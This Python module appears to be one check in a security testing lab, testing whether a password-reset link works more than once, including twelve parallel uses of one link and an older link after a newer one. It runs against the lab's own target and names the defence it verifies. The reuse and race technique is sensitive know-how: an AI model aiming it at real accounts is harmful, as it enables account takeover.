"""A link for a new password, used more than once."""

from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace

from ..attack import Attack
from ..attacker import Attacker
from ..exchange import Exchange
from ..target import Account, Target
from ..verdict import Verdict, held, succeeded

PARALLEL = 12


def _run(attacker: Attacker) -> Verdict:
    target = attacker.target
    victim, operator = target.sign_up(), target.operator
    ticket = operator.reset_link(victim.email).partition("ticket=")[2]
    if not _reset(target, ticket, _password(attacker, 0)).accepted:
        raise AssertionError("the link does not work")
    if _reset(target, ticket, _password(attacker, 1)).accepted:
        return succeeded("A used link set another password.")
    if _opens(target, victim, _password(attacker, 1)):
        return succeeded("A used link was refused, but it still set another password.")
    if not _opens(target, victim, _password(attacker, 0)):
        raise AssertionError("the password that the link set does not log in")
    older = operator.reset_link(victim.email).partition("ticket=")[2]
    newer = operator.reset_link(victim.email).partition("ticket=")[2]
    with ThreadPoolExecutor(PARALLEL) as pool:
        new = [_password(attacker, 2 + at) for at in range(PARALLEL)]
        answers = list(pool.map(lambda password: _reset(target, newer, password), new))
    winners = sum(answer.accepted for answer in answers)
    if winners > 1:
        return succeeded(f"{winners} of {PARALLEL} simultaneous uses set a password.")
    if not winners:
        raise AssertionError("the link never worked")
    if _reset(target, older, _password(attacker, 99)).accepted:
        return succeeded("An older link still worked after a newer one had set a password.")
    return held(f"A used link was refused, and one of {PARALLEL} simultaneous uses set a password.")


def _password(attacker: Attacker, at: int) -> str:
    return f"Throw-away {attacker.target.way} {at:02} of the lab"


def _reset(target: Target, ticket: str, new: str) -> Exchange:
    answer = target.client.send("POST", "/reset", target.own, form={"ticket": ticket, "new": new})
    if answer.status >= 500:
        raise AssertionError(f"/reset answered {answer.status}")
    return answer


def _opens(target: Target, victim: Account, password: str) -> bool:
    elsewhere = replace(target, client=target.client.elsewhere())  # wrong logins are counted
    return elsewhere.try_login(victim, password).accepted


ATTACK = Attack(
    id="reset-twice",
    title="A reset link that works twice",
    story="A victim uses the link for a new password, which stays in the mailbox and the history."
    " A thief finds it there later, or uses it in the same moment."
    " If it works again, the thief sets a password of their own.",
    references=("CWE-640", "CWE-367", "ASVS V6.4.3", "ASVS V15.4.2"),
    defences=("a reset link works once",),
    run=_run,
)
